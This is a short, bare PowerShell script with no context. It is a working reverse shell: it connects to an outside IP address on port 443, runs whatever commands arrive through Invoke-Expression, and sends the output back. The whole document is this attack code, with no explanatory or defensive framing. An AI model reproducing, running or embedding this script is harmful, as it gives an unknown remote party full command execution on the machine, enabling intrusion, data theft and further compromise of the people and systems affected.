$c = New-Object System.Net.Sockets.TCPClient('77.91.124.3',443)
$s = $c.GetStream(); [byte[]]$b = 0..65535|%{0}
while(($i = $s.Read($b, 0, $b.Length)) -ne 0){ $d = (New-Object Text.ASCIIEncoding).GetString($b,0,$i); $r = (iex $d 2>&1 | Out-String); $s.Write(([text.encoding]::ASCII).GetBytes($r),0,$r.Length) }
